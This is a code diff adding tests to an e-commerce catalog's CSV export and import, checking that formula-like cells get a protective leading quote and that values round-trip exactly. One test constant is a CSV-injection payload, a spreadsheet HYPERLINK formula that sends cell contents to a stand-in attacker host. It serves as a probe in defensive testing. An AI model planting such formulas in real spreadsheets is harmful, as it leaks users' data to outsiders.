@@ -194,3 +194,43 @@ def test_export_follows_collection_and_category_filters(app, catalog):
     men = db.session.scalar(select(Category).where(Category.name == "Men"))
     rows = rows_of(export_text(app, ProductFilter(category_id=men.id)))
     assert {r["handle"] for r in rows} == {"linen-shirt"}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_cells_a_spreadsheet_would_run_are_quoted_and_read_back_exactly(
+    app, make_product, tmp_path, monkeypatch
+):
+    """The probe's product title runs as a formula in a spreadsheet unless it starts with a
+    quote; our import takes the quote off again, so the round trip stays byte-identical."""
+    monkeypatch.setitem(app.config, "IMPORT_FETCH_IMAGES", False)
+    make_product(FORMULA, handle="evil", sku="EVIL-1", vendor="-5 Degrees", price=1000)
+    make_product("'=already quoted", handle="quoted", sku="Q-1", price=1000)
+    first = export_text(app)
+    by_handle = {r["handle"]: r for r in rows_of(first)}
+    assert by_handle["evil"]["title"] == "'" + FORMULA
+    assert by_handle["evil"]["vendor"] == "'-5 Degrees"
+    assert by_handle["quoted"]["title"] == "''=already quoted"
+    path = tmp_path / "export.csv"
+    path.write_bytes(first.encode("utf-8"))
+    for product in db.session.scalars(select(Product)).all():
+        delete_product(product, by=None)
+    report = apply_import(path, by=None)
+    assert report.ok, report.errors
+    titles = set(db.session.scalars(select(Product.title)))
+    assert titles == {FORMULA, "'=already quoted"}
+    assert export_text(app) == first
+
+
+def test_a_negative_quantity_written_with_a_quote_reads_as_the_number():
+    """An oversold item's quantity -5 (a negative opening adjustment) is `'-5` once a file went
+    through our escaping; the import reads the same number either way."""
+    from commerce.catalog.csv_format import read_catalog_csv
+
+    header = "Handle,Title,Variant SKU,Variant Price,Variant Inventory Qty\r\n"
+    plain = read_catalog_csv(io.StringIO(header + "tee,Tee,T-1,10.00,-5\r\n"), currency="USD")
+    quoted = read_catalog_csv(io.StringIO(header + "tee,Tee,T-1,10.00,'-5\r\n"), currency="USD")
+    assert plain.errors == quoted.errors == []
+    assert plain.products[0].variants[0].inventory_qty == -5
+    assert quoted.products[0].variants[0].inventory_qty == -5
